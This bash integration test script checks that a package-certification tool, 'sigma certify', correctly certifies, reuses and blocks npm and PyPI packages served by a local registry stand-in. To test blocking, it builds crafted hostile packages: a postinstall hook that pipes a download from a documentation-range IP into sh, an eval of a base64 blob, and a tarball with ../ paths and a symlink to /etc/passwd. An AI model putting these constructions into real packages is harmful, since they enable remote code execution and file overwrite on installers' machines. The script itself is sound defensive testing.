#!/usr/bin/env bash
# certify.sh: `sigma certify` end to end against a registry stand-in on
# 127.0.0.1 (tests/registry_standin.py) serving the real npm documents and
# tarballs of tests/fixtures/registry and PyPI JSON documents: certified
# end to end, reuse without a second download (the server counts), a
# tarball changed by one byte (blocked, nothing certified), an unreachable
# registry, retries, timeouts and the size cap, crafted malicious and
# hostile packages, OSV import, PyPI, --lockfile with the audit cap, a red
# flag, and the hook treating a lockfile integrity mismatch as blocked.
source "$(dirname "$0")/../lib.sh"

# Loopback only, never through a proxy.
unset http_proxy https_proxy all_proxy HTTP_PROXY HTTPS_PROXY ALL_PROXY
export no_proxy=127.0.0.1,localhost NO_PROXY=127.0.0.1,localhost
export SIGMA_HTTP_BACKOFF=0.05

out=$T/out
reg=$T/reg
mkdir -p "$reg/npm" "$reg/pypi"
cp "$FIXTURES"/registry/npm/* "$reg/npm/"

# --- crafted packages ---------------------------------------------------------------
python3 - "$reg" <<'PY'
import io, os, random, sys, tarfile, zipfile, base64
reg = sys.argv[1]
def tgz(path, files, extra=None):
    with tarfile.open(path, "w:gz") as t:
        for name, data in files.items():
            info = tarfile.TarInfo(name); data = data.encode(); info.size = len(data); info.mtime = 0
            t.addfile(info, io.BytesIO(data))
        for info in extra or []:
            t.addfile(info)
random.seed(7)
blob = base64.b64encode(bytes(random.getrandbits(8) for _ in range(600))).decode()
# A package that pipes a download into a shell at install and evaluates a decoded blob.
tgz(f"{reg}/npm/evil-helper-1.0.0.tgz", {
    "package/package.json": '{"name":"evil-helper","version":"1.0.0","scripts":{"postinstall":"curl -s http://198.51.100.7/x | sh"}}',
    "package/index.js": "eval(Buffer.from('%s','base64').toString());\n" % blob})
# A tarball built to escape: ../ paths and a symlink out of the package.
link = tarfile.TarInfo("package/lib/passwd"); link.type = tarfile.SYMTYPE; link.linkname = "../../../../etc/passwd"
tgz(f"{reg}/npm/escape-art-1.0.0.tgz", {
    "package/package.json": '{"name":"escape-art","version":"1.0.0"}',
    "package/../../sigma-escaped-by-test": "owned\n"}, [link])
# A version named by a real MAL- record (flatmap-stream: every version).
tgz(f"{reg}/npm/flatmap-stream-0.1.1.tgz", {
    "package/package.json": '{"name":"flatmap-stream","version":"0.1.1"}', "package/index.js": "module.exports = 1;\n"})
# minimist 1.2.5: inside GHSA-xvch-5gv4-984h's range (the 1.2.8 tarball, re-labelled).
os.link(f"{reg}/npm/minimist-1.2.8.tgz", f"{reg}/npm/minimist-1.2.5.tgz")
# PyPI: an sdist and a pure wheel of one release; a wheel of compiled code only.
tgz(f"{reg}/pypi/demo_pkg-1.0.0.tar.gz", {
    "demo_pkg-1.0.0/setup.py": "from setuptools import setup\nsetup(name='demo-pkg', version='1.0.0')\n",
    "demo_pkg-1.0.0/demo_pkg/__init__.py": "def hello():\n    return 'hi'\n"})
with zipfile.ZipFile(f"{reg}/pypi/demo_pkg-1.0.0-py3-none-any.whl", "w") as z:
    z.writestr("demo_pkg/__init__.py", "def hello():\n    return 'hi'\n")
    z.writestr("demo_pkg-1.0.0.dist-info/METADATA", "Name: demo-pkg\nVersion: 1.0.0\n")
with zipfile.ZipFile(f"{reg}/pypi/fastcore_bin-2.0.0-cp311-cp311-manylinux_2_17_x86_64.whl", "w") as z:
    z.writestr("fastcore_bin/_core.cpython-311-x86_64-linux-gnu.so", "\x7fELF" + "\0" * 64)
    z.writestr("fastcore_bin-2.0.0.dist-info/METADATA", "Name: fastcore-bin\nVersion: 2.0.0\n")
PY

python3 "$TESTS_DIR/registry_standin.py" "$reg" > "$T/port" 2>"$T/standin.err" &
_pids+=($!)
for _ in $(seq 50); do [ -s "$T/port" ] && break; sleep 0.1; done
port=$(cat "$T/port")
base=http://127.0.0.1:$port
export SIGMA_NPM_REGISTRY=$base SIGMA_PYPI_INDEX=$base/simple
control() { curl -s -X POST --data "$1" "$base/_control" > /dev/null; }
hits() {  # hits PATH: requests the stand-in saw for PATH
	curl -s "$base/_stats" | python3 -c "import json,sys; print(json.load(sys.stdin)['paths'].get(sys.argv[1], 0))" "$1"
}
field() {  # field ECO NAME VERSION EXPR: a Python expression over the certificate `c`
	"$SIGMA_BIN" registry show "$1" "$2" "$3" --json | python3 -c "import json,sys; c=json.load(sys.stdin); print($4)"
}
run() { "$SIGMA_BIN" "$@" > "$out" 2>&1; }

# --- certified, end to end ----------------------------------------------------------
check "the stand-in listens on 127.0.0.1" test -n "$port"
run certify npm left-pad 1.3.0; rc=$?
check "certify npm left-pad 1.3.0 exits 0" test "$rc" -eq 0
check "... saying certified" grep -q "^certified   npm left-pad 1.3.0 CLEAR" "$out"
check "... one metadata request and one tarball download" \
	test "$(hits /left-pad/1.3.0)" = 1 -a "$(hits /left-pad/-/left-pad-1.3.0.tgz)" = 1
check "the certificate has the BRIEF §3 fields" test "$(field npm left-pad 1.3.0 \
	"all(k in c for k in ['ecosystem','name','version','status','reasons','distribution_sha256','integrity','verdict','security_level','retained_warnings','analysis_type','execution','certified_at','certificate_id'])")" = True
check "... distribution_sha256 is the tarball's SHA-256" \
	test "$(field npm left-pad 1.3.0 "c['distribution_sha256']")" = "$(sha256sum "$reg/npm/left-pad-1.3.0.tgz" | cut -d' ' -f1)"
check "... integrity is the registry's SRI string" \
	test "$(field npm left-pad 1.3.0 "c['integrity'].split()[0]")" = "$(python3 -c "import json;print(json.load(open('$reg/npm/left-pad-1.3.0.json'))['dist']['integrity'])")"
check "... APPROVED, FULL, execution skipped with a reason" \
	test "$(field npm left-pad 1.3.0 "c['verdict'],c['analysis_type'],c['execution']['outcome'],bool(c['execution']['reason'])")" = "APPROVED FULL skipped True"
check "... and all ten reviewers are on record" test "$(field npm left-pad 1.3.0 "len(c['council'])")" = 10

# --- reuse ---------------------------------------------------------------------------
run certify npm left-pad 1.3.0
check "certifying it again reuses the certificate" grep -q "certified   npm left-pad 1.3.0 CLEAR (reused)" "$out"
check "... without a second download (the server counted 1)" test "$(hits /left-pad/-/left-pad-1.3.0.tgz)" = 1

# --- every real package -------------------------------------------------------------
start=$(date +%s%N)
run certify npm lodash 4.17.21; run certify npm core-js 3.37.1; run certify npm es5-ext 0.10.64
run certify npm @types/ms 0.7.34; run certify npm escape-html 1.0.3; run certify npm is-number 7.0.0
end=$(date +%s%N)
echo "# six real packages certified in $(( (end - start) / 1000000 )) ms"
check "the real clean packages are all certified (core-js and es5-ext with their postinstall at MEDIUM)" \
	test "$("$SIGMA_BIN" registry list --status certified | grep -c '^npm ')" -eq 7
check "... core-js's postinstall is a retained warning at package.json:line" \
	test "$(field npm core-js 3.37.1 "[w['file'].split(':')[0] for w in c['retained_warnings'] if w['code']=='install-script']")" = "['package.json']"
check "... and its postinstall ran in the sandbox, with no network attempt (execution summary)" \
	test "$(field npm core-js 3.37.1 "(c['execution']['ran'], c['execution']['outcome'], c['execution']['network_attempts'])")" = "('postinstall', 'completed', [])"

# --- a tarball changed by one byte ---------------------------------------------------
control '{"corrupt":["debug-4.3.4.tgz"]}'
run certify npm debug 4.3.4; rc=$?
check "a tarball changed by one byte exits 1" test "$rc" -eq 1
check "... blocked with integrity-mismatch, naming sha512" grep -q "blocked .*integrity-mismatch: dist.integrity differs: sha512: registry says" "$out"
check "... nothing certified" test "$(field npm debug 4.3.4 "c['status'],c['reasons'][0]['code'],'verdict' in c")" = "blocked integrity-mismatch False"
"$SIGMA_BIN" registry list --status certified > "$T/certified"
check "... and debug is not among the certified" bash -c "! grep -q ' debug ' '$T/certified'"
control '{"reset":true}'

# --- network trouble -------------------------------------------------------------------
before=$("$SIGMA_BIN" registry export | wc -l)
SIGMA_NPM_REGISTRY=http://127.0.0.1:1 SIGMA_HTTP_RETRIES=1 "$SIGMA_BIN" certify npm ms 2.1.3 > "$out" 2>&1; rc=$?
check "an unreachable registry exits 1" test "$rc" -eq 1
check "... with a clear error naming the URL" grep -q "error       npm ms 2.1.3: npm ms 2.1.3: cannot fetch its registry document: http://127.0.0.1:1/ms/2.1.3: .*(after 2 attempts)" "$out"
check "... and nothing stored" test "$("$SIGMA_BIN" registry export | wc -l)" -eq "$before"

control '{"fail":{"/ms/2.1.3":2}}'
run certify npm ms 2.1.3; rc=$?
check "two 500s then success: retried with backoff, certified" test "$rc" -eq 0
check "... the server saw three attempts" test "$(hits /ms/2.1.3)" = 3
control '{"reset":true}'

control '{"delay":{"/minimist/1.2.8":3}}'
start=$(date +%s%N)
SIGMA_HTTP_TIMEOUT=0.4 SIGMA_HTTP_RETRIES=1 "$SIGMA_BIN" certify npm minimist 1.2.8 > "$out" 2>&1; rc=$?
ms=$(( ($(date +%s%N) - start) / 1000000 ))
check "a stalled registry times out (exit 1, ${ms} ms for two attempts)" test "$rc" -eq 1 -a "$ms" -lt 2500
check "... saying so" grep -qi "timed out\|timeout" "$out"
control '{"reset":true}'

control '{"oversize":{"lodash-4.17.21.tgz":8388608}}'
"$SIGMA_BIN" certify npm lodash 4.17.21 > /dev/null 2>&1 # (already certified: reused)
SIGMA_DB=$T/fresh.db "$SIGMA_BIN" registry init > /dev/null
SIGMA_DB=$T/fresh.db SIGMA_HTTP_MAX_BYTES=1048576 "$SIGMA_BIN" certify npm lodash 4.17.21 > "$out" 2>&1; rc=$?
check "a body over the size cap is refused (exit 1)" test "$rc" -eq 1
check "... naming the cap" grep -q "larger than the cap of 1048576 bytes" "$out"
check "... nothing stored" test "$(SIGMA_DB=$T/fresh.db "$SIGMA_BIN" registry export | wc -l)" -eq 0
control '{"reset":true}'

# --- hostile packages --------------------------------------------------------------------
run certify npm evil-helper 1.0.0; rc=$?
check "a crafted malicious package is blocked (exit 1)" test "$rc" -eq 1
check "... REJECTED by the council, CRITICAL" test "$(field npm evil-helper 1.0.0 "c['status'],c['verdict'],c['security_level'],c['reasons'][0]['code']")" = "blocked REJECTED CRITICAL council"
check "... with the install script and the decoded blob among the warnings" \
	test "$(field npm evil-helper 1.0.0 "sorted({w['code'] for w in c['retained_warnings']} & {'install-script-download-exec','blob-exec'})")" = "['blob-exec', 'install-script-download-exec']"

rm -f "$T/../sigma-escaped-by-test"
run certify npm escape-art 1.0.0; rc=$?
check "a tarball with ../ paths and a symlink escape is blocked" test "$rc" -eq 1
check "... both reported" test "$(field npm escape-art 1.0.0 "sorted({w['code'] for w in c['retained_warnings']} & {'link-escape', 'path-traversal'})")" = "['link-escape', 'path-traversal']"
check "... and contained: nothing was written outside" test ! -e "$T/../sigma-escaped-by-test"

# --- OSV ------------------------------------------------------------------------------------
run registry import "$FIXTURES/osv/MAL-2025-46969.json"
check "registry import takes one OSV record" grep -q "imported 1 OSV records .* 1 malicious (1 blocks)" "$out"
run registry show npm chalk 5.6.1 --json
check "... the real MAL- record blocks chalk 5.6.1" grep -q '"status":"blocked","reasons":\[{"code":"osv:MAL-2025-46969"' "$out"
(cd "$FIXTURES/osv" && python3 -c "
import zipfile, glob
with zipfile.ZipFile('$T/osv-all.zip', 'w') as z:
    [z.write(f, 'osv/' + f) for f in sorted(glob.glob('*.json'))]")
run registry import "$T/osv-all.zip"
check "a zip of records, like OSV's exports (the one already imported left as it is)" \
	grep -q "imported 12 OSV records .*: 9 malicious (10 blocks), 2 advisories.*, 1 unchanged" "$out"
run registry import "$FIXTURES/osv"
check "a directory of records; importing again is incremental (all 12 unchanged)" \
	grep -q "imported 12 OSV records .*: 0 malicious (0 blocks), 0 advisories.*, 12 unchanged" "$out"
run certify npm flatmap-stream 0.1.1; rc=$?
check "certifying a version a MAL- record covers: blocked, malware:MAL-2025-20690" \
	test "$rc" -eq 1 -a "$(field npm flatmap-stream 0.1.1 "[r['code'] for r in c['reasons']]")" = "['osv:MAL-2025-20690', 'malware:MAL-2025-20690']"
run certify npm minimist 1.2.5
check "an advisory shows on the certificate as a count and the highest severity" \
	test "$(field npm minimist 1.2.5 "c['status'],c['advisories']['count'],c['advisories']['highest_severity']")" = "certified 1 CRITICAL"
printf '{"ecosystem":"npm","name":"jl","version":"1.0.0","status":"certified","verdict":"APPROVED"}\n' > "$T/lines.jsonl"
run registry import "$T/lines.jsonl"
check "JSON lines of certificates still import as certificates" grep -q "imported 1 certificates and 0 blocks" "$out"

# --- PyPI --------------------------------------------------------------------------------------
run certify pypi Demo_Pkg 1.0.0; rc=$?
check "PyPI: certified from the JSON API (index given as .../simple)" test "$rc" -eq 0
check "... the sdist is the reviewed file, named in PEP 503 form" \
	test "$(field pypi demo-pkg 1.0.0 "c['source']['filename'],c['distribution_sha256']")" = "demo_pkg-1.0.0.tar.gz $(sha256sum "$reg/pypi/demo_pkg-1.0.0.tar.gz" | cut -d' ' -f1)"
check "... integrity lists every published file as sha256:hex" \
	test "$(field pypi demo-pkg 1.0.0 "len(c['integrity'].split()), c['integrity'].startswith('sha256:')")" = "2 True"
run certify pypi fastcore-bin 2.0.0
check "a wheel with only compiled code is BINARY_ONLY" test "$(field pypi fastcore-bin 2.0.0 "c['analysis_type']")" = BINARY_ONLY
control '{"corrupt":["demo_pkg-1.0.0.tar.gz"]}'
SIGMA_DB=$T/py.db "$SIGMA_BIN" registry init > /dev/null
SIGMA_DB=$T/py.db "$SIGMA_BIN" certify pypi demo-pkg 1.0.0 > "$out" 2>&1
check "PyPI: a changed file fails digests.sha256" grep -q "integrity-mismatch: digests.sha256 differs" "$out"
control '{"reset":true}'

# --- --lockfile and the audit cap ----------------------------------------------------------------
integ() { python3 -c "import json;print(json.load(open('$reg/npm/$1.json'))['dist']['integrity'])"; }
mkdir -p "$T/app"
cat > "$T/app/package.json" <<JSON
{"name":"app","version":"1.0.0","dependencies":{"left-pad":"1.3.0","debug":"4.3.4","escape-html":"1.0.3"}}
JSON
cat > "$T/app/package-lock.json" <<JSON
{"name":"app","version":"1.0.0","lockfileVersion":3,"requires":true,"packages":{
 "":{"name":"app","version":"1.0.0","dependencies":{"left-pad":"1.3.0","debug":"4.3.4","escape-html":"1.0.3"}},
 "node_modules/left-pad":{"version":"1.3.0","resolved":"https://registry.invalid/left-pad/-/left-pad-1.3.0.tgz","integrity":"$(integ left-pad-1.3.0)"},
 "node_modules/escape-html":{"version":"1.0.3","resolved":"https://registry.invalid/escape-html/-/escape-html-1.0.3.tgz","integrity":"$(integ escape-html-1.0.3)"},
 "node_modules/debug":{"version":"4.3.4","resolved":"https://registry.invalid/debug/-/debug-4.3.4.tgz","integrity":"$(integ debug-4.3.4)","dependencies":{"ms":"2.1.2","is-number":"7.0.0"}},
 "node_modules/ms":{"version":"2.1.3","resolved":"https://registry.invalid/ms/-/ms-2.1.3.tgz","integrity":"$(integ ms-2.1.3)"},
 "node_modules/is-number":{"version":"7.0.0","resolved":"https://registry.invalid/is-number/-/is-number-7.0.0.tgz","integrity":"$(integ is-number-7.0.0)"}}}
JSON
export SIGMA_DB=$T/bulk.db
"$SIGMA_BIN" registry init > /dev/null
control '{"reset":true}'
"$SIGMA_BIN" certify --lockfile "$T/app/package-lock.json" --cap 1 --json > "$out" 2>&1; rc=$?
check "--lockfile --cap 1 exits 0" test "$rc" -eq 0
check "... direct packages first, then one transitive, the other left at the cap" test "$(python3 -c "
import json
rows=[json.loads(l) for l in open('$out')]
print([(r['name'],r['depth'],r['status'],r['audit']) for r in rows])")" = "[('left-pad', 0, 'certified', 'audited'), ('debug', 0, 'certified', 'audited'), ('escape-html', 0, 'certified', 'audited'), ('ms', 1, 'certified', 'audited'), ('is-number', 1, 'uncertified', 'cap')]"
"$SIGMA_BIN" certify --lockfile "$T/app/package-lock.json" > "$out" 2>&1
check "on a pipe: one line per package, then the summary" \
	test "$(grep -c '^certified ' "$out")" -eq 5 -a "$(grep -c '(reused)' "$out")" -eq 4
check "... a lockfile integrity that matches a certificate costs no request" \
	test "$(hits /left-pad/1.3.0)" = 1 -a "$(hits /is-number/7.0.0)" = 1
run certify --lockfile "$T/app/nothing.lock"
check "--lockfile with a file sigma does not know: exit 2, named" bash -c "grep -q 'nothing.lock: not a lockfile sigma knows' '$out'"

# --- the hook compares lockfile integrity with the certified one ----------------------------------
run scan "$T/app"; rc=$?
check "sigma scan: lockfile integrity equal to the certified one: accepted" test "$rc" -eq 0
sed -i "s#$(integ left-pad-1.3.0)#sha512-$(head -c 64 /dev/zero | tr '\0' 'x' | base64 -w0)#" "$T/app/package-lock.json"
"$SIGMA_BIN" scan --json "$T/app" > "$out" 2>/dev/null; rc=$?
check "sigma scan: a different integrity for a certified direct package is blocked: rejected" test "$rc" -eq 1
check "... with code integrity-mismatch" python3 -c "
import json,sys
c=json.load(open('$out'))
p=[p for p in c['packages'] if p['name']=='left-pad'][0]
sys.exit(0 if p['status']=='blocked' and 'integrity-mismatch' in json.dumps(p) else 1)"

# --- a red flag --------------------------------------------------------------------------------------
export SIGMA_DB=$T/registry.db
python3 - "$reg" <<'PY'
import io, sys, tarfile
reg = sys.argv[1]
with tarfile.open(f"{reg}/npm/left-pad-1.3.0.tgz", "w:gz") as t:
    for name, data in {"package/package.json": '{"name":"left-pad","version":"1.3.0"}', "package/index.js": "module.exports = s => s;\n"}.items():
        info = tarfile.TarInfo(name); info.size = len(data); t.addfile(info, io.BytesIO(data.encode()))
PY
rm "$reg/npm/left-pad-1.3.0.json"  # the stand-in now publishes the new tarball's own hashes
run certify npm left-pad 1.3.0; rc=$?
check "a different artefact for a version certified before: exit 1" test "$rc" -eq 1
check "... reported as a red flag" grep -q "RED FLAG: npm left-pad 1.3.0" "$out"
check "... and recorded as blocked (hash-changed)" test "$(field npm left-pad 1.3.0 "c['status'],c['reasons'][0]['code']")" = "blocked hash-changed"

# --- configuration -------------------------------------------------------------------------------------
env -u SIGMA_NPM_REGISTRY "$SIGMA_BIN" certify npm left-pad 1.3.0 > "$out" 2>&1; rc=$?
check "no registry configured: exit 2 with how to configure one" \
	bash -c "test $rc -eq 2 && grep -q 'no npm registry configured: set sigma.npmRegistry' '$out'"
usage() { local d=$1; shift; "$SIGMA_BIN" "$@" > "$out" 2>&1; local rc=$?
	if [ "$rc" -eq 2 ] && [ "$(wc -l < "$out")" -eq 1 ]; then ok "$d"; else nok "$d (exit $rc)"; cat "$out"; fi; }
usage "certify with too few arguments: one line, exit 2" certify npm left-pad
usage "certify with an unknown ecosystem: one line, exit 2" certify cargo serde 1.0.0
usage "--cap without --lockfile: one line, exit 2" certify npm a 1 --cap 3
check "every request the stand-in saw came from 127.0.0.1" \
	test "$(curl -s "$base/_stats" | python3 -c "import json,sys; print(json.load(sys.stdin)['clients'])")" = "['127.0.0.1']"

[ -n "${KEEP:-}" ] && { trap - EXIT; echo "# kept $T port $port"; }
done_testing
